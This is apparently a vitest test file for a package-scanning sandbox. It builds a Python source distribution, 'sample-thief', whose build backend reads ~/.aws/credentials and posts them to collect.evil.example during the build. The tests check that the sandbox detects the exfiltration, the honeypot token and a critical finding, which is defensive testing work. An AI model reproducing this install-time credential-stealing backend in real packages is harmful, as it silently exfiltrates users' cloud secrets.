import { beforeAll, describe, expect, it } from 'vitest'
import { tarball } from '../harness/archives.ts'
import { runIn, whyNot } from '../harness/sandbox.ts'
import type { Seen } from '../harness/sandbox.ts'

const missing = await whyNot('pypi')
if (missing !== null) console.warn(`not tested: ${missing}`)

/** A back end in the archive itself: building it needs nothing from anywhere. */
const BACKEND = [
  'import os, zipfile',
  'def build_wheel(folder, config_settings=None, metadata_directory=None):',
  "    with open(os.path.expanduser('~/.aws/credentials')) as file:",
  '        taken = file.read()',
  '    import urllib.request',
  "    urllib.request.urlopen(urllib.request.Request('https://collect.evil.example/build', data=taken.encode()), timeout=10).read()",
  "    name = 'sample_thief-1.0-py3-none-any.whl'",
  "    with zipfile.ZipFile(os.path.join(folder, name), 'w') as wheel:",
  "        for path in ('sample_thief/__init__.py', 'sample_thief/quits.py', 'sample_thief/cli.py'):",
  '            wheel.writestr(path, open(path).read())',
  "        info = 'sample_thief-1.0.dist-info/'",
  "        wheel.writestr(info + 'METADATA', 'Metadata-Version: 2.1\\nName: sample-thief\\nVersion: 1.0\\n')",
  "        wheel.writestr(info + 'WHEEL', 'Wheel-Version: 1.0\\nGenerator: sample\\nRoot-Is-Purelib: true\\nTag: py3-none-any\\n')",
  "        wheel.writestr(info + 'entry_points.txt', '[console_scripts]\\nsample-thief = sample_thief.cli:main\\n')",
  "        wheel.writestr(info + 'RECORD', ''.join(line.filename + ',,\\n' for line in wheel.infolist()) + info + 'RECORD,,\\n')",
  '    return name',
  '',
].join('\n')

const SDIST = {
  'PKG-INFO': 'Metadata-Version: 2.1\nName: sample-thief\nVersion: 1.0\n',
  'pyproject.toml': '[build-system]\nrequires = []\nbuild-backend = "backend"\nbackend-path = ["."]\n',
  'backend.py': BACKEND,
  'sample_thief/__init__.py': "import os\ndef greet(name, path):\n    with open('greeted.txt', 'a') as out:\n        out.write(f'{name} {path}\\n')\ndef quit():\n    os._exit(3)\nclass Later:\n    def __init__(self, url):\n        self.url = url\n    def tell(self):\n        open('told.txt', 'w').write(self.url)\n",
  'sample_thief/quits.py': "open('loaded.txt', 'w').write('quits was loaded')\nimport os\nos._exit(0)\n",
  'sample_thief/cli.py': "import sys\ndef main():\n    open('ran.txt', 'a').write(repr(sys.argv[1:]) + '\\n')\n",
}

describe.skipIf(missing !== null)('a source distribution', () => {
  let seen: Seen
  beforeAll(async () => {
    seen = await runIn({ ecosystem: 'pypi', name: 'sample-thief', version: '1.0', file: 'sample_thief-1.0.tar.gz' }, await tarball('sample_thief-1.0', SDIST))
  }, 240_000)

  it('is built and run to its end', () => {
    expect(seen.record.phases.map(({ phase, status, says }) => [phase, status, says])).toEqual([['install', 'completed', null], ['import', 'completed', null], ['execute', 'completed', null]])
    expect(seen.record.missing).toEqual([])
  })

  it('is seen to send what its building took', () => {
    const [sent] = seen.acts('request', /^https:\/\/collect\.evil\.example\/build/)
    expect(sent).toMatchObject({ method: 'POST', by: { package: 'sample-thief', file: 'backend.py', line: 6 } })
    expect(sent?.honey?.map(({ token }) => token)).toContain('aws-secret-key')
    expect(seen.findings.map(({ severity }) => severity)).toContain('critical')
  })

  it('has its modules imported, its functions and methods called, its command run', () => {
    const left = (name: string): string => seen.record.phases.flatMap(({ disk }) => disk).filter(({ path }) => path.endsWith(`/${name}`)).map(({ content }) => Buffer.from(content ?? []).toString()).at(-1) ?? ''
    expect(left('loaded.txt')).toBe('quits was loaded')
    expect(left('greeted.txt')).toContain('data/products.json')
    expect(left('told.txt')).toBe('https://www.shop.example/products?page=1')
    expect(left('ran.txt').trim().split('\n').slice(0, 3)).toEqual(['[]', "['--help']", "['hello world']"])
  })
})
